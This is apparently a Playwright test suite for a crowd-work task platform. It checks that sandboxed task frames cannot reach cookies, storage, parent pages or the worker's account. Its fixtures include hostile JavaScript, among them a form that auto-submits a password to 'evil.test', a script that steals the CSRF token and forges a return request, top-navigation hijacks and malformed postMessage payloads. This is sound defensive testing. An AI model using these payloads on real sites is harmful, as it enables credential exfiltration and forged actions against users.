"""What tasks can and can't do in their frame, tried in Chromium as docs/security.md states it."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Page, Request, Route, expect

from annotation.crowd.market.answers import read_answer_xml
from tests.browser.task_app import TaskApp, running_app
from tests.browser.workers import (
    accept,
    expect_sent,
    external_question,
    html_question,
    return_hit,
    task_in,
)
from tests.servers import Product

PROBE = """<!doctype html><html lang="en"><title>Task</title><body>
<p id="learnt"></p>
<script>
const learnt = {};
async function attempt(name, act) {
  try { learnt[name] = String(await act()); } catch (error) { learnt[name] = error.name; }
}
async function start() {
  document.addEventListener("securitypolicyviolation", (event) => {
    learnt[`refused ${event.effectiveDirective}`] = "yes";
  });
  await attempt("origin", () => self.origin);
  await attempt("cookie", () => document.cookie);
  await attempt("set cookie", () => { document.cookie = "a=1"; });
  await attempt("local storage", () => localStorage.length);
  await attempt("session storage", () => sessionStorage.length);
  await attempt("database", () => indexedDB.open("x"));
  await attempt("caches", () => caches.keys());
  await attempt("service worker", () => navigator.serviceWorker.register("/static/js/task.js"));
  await attempt("parent", () => parent.document.title);
  await attempt("address", () => parent.location.href);
  // Alone, it is its own top, and may go where it likes.
  if (top !== self) await attempt("top", () => { top.location.href = "https://evil.test/"; });
  await attempt("own pages", () => fetch("/work/earnings/", { credentials: "include" }));
  await attempt("alert", () => { alert("Read this"); return "shown"; });
  await attempt("confirm", () => confirm("Sure?"));
  await new Promise((done) => setTimeout(done, 500));
  document.querySelector("#learnt").textContent = JSON.stringify(learnt);
}
start();
</script></body></html>"""


@pytest.fixture
def worker_page(worker_page: Page) -> Page:
    worker_page.on("dialog", lambda dialog: dialog.accept())
    return worker_page


def learnt_in(page: Page) -> dict[str, str]:
    place = task_in(page).locator("#learnt")
    expect(place).to_contain_text("}")
    found: dict[str, str] = json.loads(place.inner_text())
    return found


OUT_OF_REACH = {
    "origin": "null",
    "cookie": "SecurityError",
    "set cookie": "SecurityError",
    "local storage": "SecurityError",
    "session storage": "SecurityError",
    "database": "SecurityError",
    "caches": "SecurityError",
    "service worker": "SecurityError",
    "parent": "SecurityError",
    "address": "SecurityError",
    "top": "SecurityError",
    "own pages": "TypeError",
    "alert": "shown",
    "confirm": "true",
}


def test_an_html_question_reaches_nothing_of_ours(worker_page: Page, market: Any) -> None:
    accept(worker_page, market, html_question(PROBE))
    here = worker_page.url
    learnt = learnt_in(worker_page)
    assert {name: learnt[name] for name in OUT_OF_REACH} == OUT_OF_REACH
    assert worker_page.url == here
    # Opened outside of its frame it is as opaque.
    address = worker_page.locator("iframe.task__frame").get_attribute("src")
    assert address is not None
    worker_page.goto(address)
    place = worker_page.locator("#learnt")
    expect(place).to_contain_text("}")
    alone = json.loads(place.inner_text())
    for name in ("origin", "cookie", "local storage", "database", "caches", "service worker"):
        assert alone[name] == OUT_OF_REACH[name]


def test_an_experiment_on_another_port_works_and_reaches_only_itself(
    worker_page: Page, market: Any, app: TaskApp
) -> None:
    page = worker_page
    hit_id = accept(page, market, external_question(app.address("/exp?mode=live&amp;x=1")))
    here = page.url
    assignment_id = here.rstrip("/").rpartition("/")[2]
    learnt = learnt_in(page)
    assert page.url == here
    assert learnt == {
        "origin": app.address(""),
        "storage": "1",
        "cookie": "true",
        "backend": "7",
        "worker": "42",
        "image": "7",
        "socket": "asked",
        "alert": "shown",
        "confirm": "true",
        "parent": "SecurityError",
        "address": "SecurityError",
        "top": "SecurityError",
        "giza": "TypeError",
        "session": "false",
    }
    assert f"/sync {assignment_id}" in [path for path, _ in app.asked]
    assert "/socket" in [path for path, _ in app.asked]
    task_in(page).get_by_role("button", name="Finish").click()
    expect_sent(page)
    (sent,) = market.list_assignments_for_hit(HITId=hit_id)["Assignments"]
    assert read_answer_xml(sent["Answer"])["code"] == "done"


FOREIGN_FORM = """<!doctype html><title>Task</title>
<form method="post" action="https://evil.test/take"><input name="password" value="x"></form>
<p>ready</p><script>setTimeout(() => document.forms[0].submit(), 500)</script>"""


def test_an_html_question_sends_no_form_elsewhere(
    worker_page: Page, market: Any, app: TaskApp
) -> None:
    page = worker_page
    sent: list[str] = []

    def answer(route: Route) -> None:
        sent.append(route.request.url)
        route.fulfill(content_type="text/html", body="<p>taken</p>")

    page.route("https://evil.test/**", answer)
    accept(page, market, html_question(FOREIGN_FORM))
    # The policy of the page around the frame refuses the address, too, and says so.
    expect(page.get_by_role("alert").locator("[data-say=refused]")).to_be_visible()
    address = page.locator("iframe.task__frame").get_attribute("src") or ""
    page.goto(address)
    expect(page.get_by_text("ready")).to_be_visible()
    page.wait_for_timeout(1500)
    # Outside of the frame, the policy of the task itself is what refuses it.
    assert sent == []
    # An external task has no such policy from us: there the same form is sent, and would be seen.
    app.pages["/form"] = FOREIGN_FORM
    accept(page, market, external_question(app.address("/form")))
    expect(task_in(page).get_by_text("taken")).to_be_visible()
    assert sent == ["https://evil.test/take"]


def test_an_experiment_on_another_host_sees_no_cookie_of_ours(
    worker_page: Page, market: Any
) -> None:
    body = "<p id=learnt></p><script>learnt.textContent = JSON.stringify({c: document.cookie})"
    page = worker_page
    page.route(
        "https://lab.test/**",
        lambda route: route.fulfill(content_type="text/html", body=f"{body}</script>"),
    )
    accept(page, market, external_question("https://lab.test/task"))
    assert learnt_in(page) == {"c": ""}


FORGED = """<!doctype html><title>Forged</title><body><form method="post" id="f"></form><script>
const token = document.cookie.match(/csrftoken=([^;]+)/)?.[1] ?? "";
const query = new URLSearchParams(location.search);
f.action = `${query.get("turkSubmitTo")}/work/assignments/${query.get("assignmentId")}/return/`;
f.innerHTML = `<input name="csrfmiddlewaretoken" value="${token}">`;
f.submit();
</script></body>"""


def test_an_experiment_on_our_host_name_can_not_act_for_the_worker(
    worker_page: Page, market: Any, app: TaskApp
) -> None:
    """Cookies know no ports, so it has the token of our forms; its origin gives it away."""
    app.pages["/forged"] = FORGED
    with worker_page.expect_response("**/return/") as response:
        accept(worker_page, market, external_question(app.address("/forged")))
    assert response.value.status == 403
    worker_page.reload()
    expect(worker_page.get_by_text("Return", exact=True)).to_be_visible()


def test_an_experiment_leads_its_frame_to_https_only(
    worker_page: Page, market: Any, app: TaskApp
) -> None:
    page = worker_page

    def answer(route: Route) -> None:
        body = "<h1>Survey</h1><form action='{0}'></form>"
        route.fulfill(content_type="text/html", body=body)

    page.route("https://survey.test/**", answer)
    app.pages["/leads"] = "<script>location.href = 'https://survey.test/form'</script>"
    accept(page, market, external_question(app.address("/leads")))
    expect(task_in(page).get_by_role("heading", name="Survey")).to_be_visible()
    with running_app() as other:
        other.pages["/there"] = "<h1>There</h1>"
        app.redirects["/moved"] = other.address("/there")
        app.redirects["/stays"] = app.address("/here")
        app.pages["/here"] = "<h1>Here</h1>"
        accept(page, market, external_question(app.address("/moved")))
        expect(page.locator("iframe.task__frame")).to_be_visible()
        accept(page, market, external_question(app.address("/stays")))
        expect(task_in(page).get_by_role("heading", name="Here")).to_be_visible()
        assert other.asked == []


def test_an_address_of_ours_gets_no_origin(
    worker_page: Page, market: Any, product: Product
) -> None:
    """Neither by the name in use nor by another name of the same machine."""
    for host in ("127.0.0.1", "localhost"):
        accept(worker_page, market, external_question(f"http://{host}:{product.port}/healthz"))
        sandbox = worker_page.locator("iframe.task__frame").get_attribute("sandbox") or ""
        assert "allow-same-origin" not in sandbox
        return_hit(worker_page)


OPENS = "<!doctype html><button onclick=\"window.open('{address}')\">Open</button>"
POPUP = """<!doctype html><p id="learnt"></p><script>
const learnt = { origin: self.origin };
for (const [name, act] of [
  ["storage", () => localStorage.length],
  ["top", () => { opener.top.location.href = "https://evil.test/"; return "asked"; }],
  ["page", () => opener.top.document.title],
]) {
  try { learnt[name] = String(act()); } catch (error) { learnt[name] = error.name; }
}
document.querySelector("#learnt").textContent = JSON.stringify(learnt);
</script>"""


def learnt_by_popup(page: Page) -> dict[str, str]:
    here = page.url
    with page.expect_popup() as opened:
        task_in(page).get_by_role("button", name="Open").click()
    place = opened.value.locator("#learnt")
    expect(place).to_contain_text("}")
    learnt: dict[str, str] = json.loads(place.inner_text())
    page.wait_for_timeout(500)
    assert page.url == here
    return learnt


def test_windows_that_an_experiment_opens_reach_the_experiment_only(
    worker_page: Page, market: Any, app: TaskApp
) -> None:
    """As psiTurk does: the window at the end has the page in the frame load itself again."""
    page = worker_page
    app.pages["/popup"] = POPUP
    app.pages["/opens"] = OPENS.format(address="/popup")
    accept(page, market, external_question(app.address("/opens")))
    assert learnt_by_popup(page) == {
        "origin": app.address(""),
        "storage": "0",
        "top": "SecurityError",
        "page": "SecurityError",
    }
    opened = page.context.pages[-1]
    app.pages["/opens"] = "<h1>Thanks</h1>"
    opened.evaluate("() => { opener.location.reload(); close(); }")
    expect(task_in(page).get_by_role("heading", name="Thanks")).to_be_visible()


def test_windows_that_an_html_question_opens_have_no_origin(
    worker_page: Page, market: Any, app: TaskApp
) -> None:
    app.pages["/popup"] = POPUP
    accept(worker_page, market, html_question(OPENS.format(address=app.address("/popup"))))
    learnt = learnt_by_popup(worker_page)
    assert (learnt["origin"], learnt["storage"]) == ("null", "SecurityError")
    # It has no way to the page around the task.
    assert (learnt["top"], learnt["page"]) == ("TypeError", "TypeError")


def test_an_experiment_frames_no_page_of_ours(
    worker_page: Page, market: Any, app: TaskApp, product: Product
) -> None:
    app.pages["/home"] = f"<script>location.href = '{product.base_url}/work/'</script>"
    ours = f"{product.base_url}/work/"

    def is_framed(request: Request) -> bool:
        return request.url == ours and request.frame != worker_page.main_frame

    with worker_page.expect_event("requestfailed", is_framed) as failed:
        accept(worker_page, market, external_question(app.address("/home")))
    assert failed.value.failure == "net::ERR_BLOCKED_BY_RESPONSE"


def test_messages_of_a_task_are_not_believed(worker_page: Page, market: Any) -> None:
    nested = "parent.parent.postMessage({ giza: 'size', height: 9000 }, '*')"
    page = f'<!doctype html><p>ready</p><iframe srcdoc="<script>{nested}</script>"></iframe>'
    accept(worker_page, market, html_question(page))
    body = task_in(worker_page).locator("body")
    here, frame = worker_page.url, worker_page.locator("iframe.task__frame")
    room = frame.evaluate("(frame) => frame.offsetHeight")

    def send(message: str) -> None:
        body.evaluate(f"() => parent.postMessage({message}, '*')")
        worker_page.wait_for_timeout(500)

    for height in ("'9000'", "NaN", "Infinity", "-1", "null", "{}"):
        send(f"{{ giza: 'size', height: {height} }}")
        assert frame.evaluate("(frame) => frame.offsetHeight") == room
    send("{ giza: 'size', height: 1e9 }")
    assert frame.evaluate("(frame) => frame.offsetHeight") == 30_000
    for message in ("null", "'size'", "{ giza: 'submitted' }", "{ giza: 'submitted' }"):
        send(message)
    assert worker_page.url == here
    expect(worker_page.get_by_text("Return", exact=True)).to_be_visible()
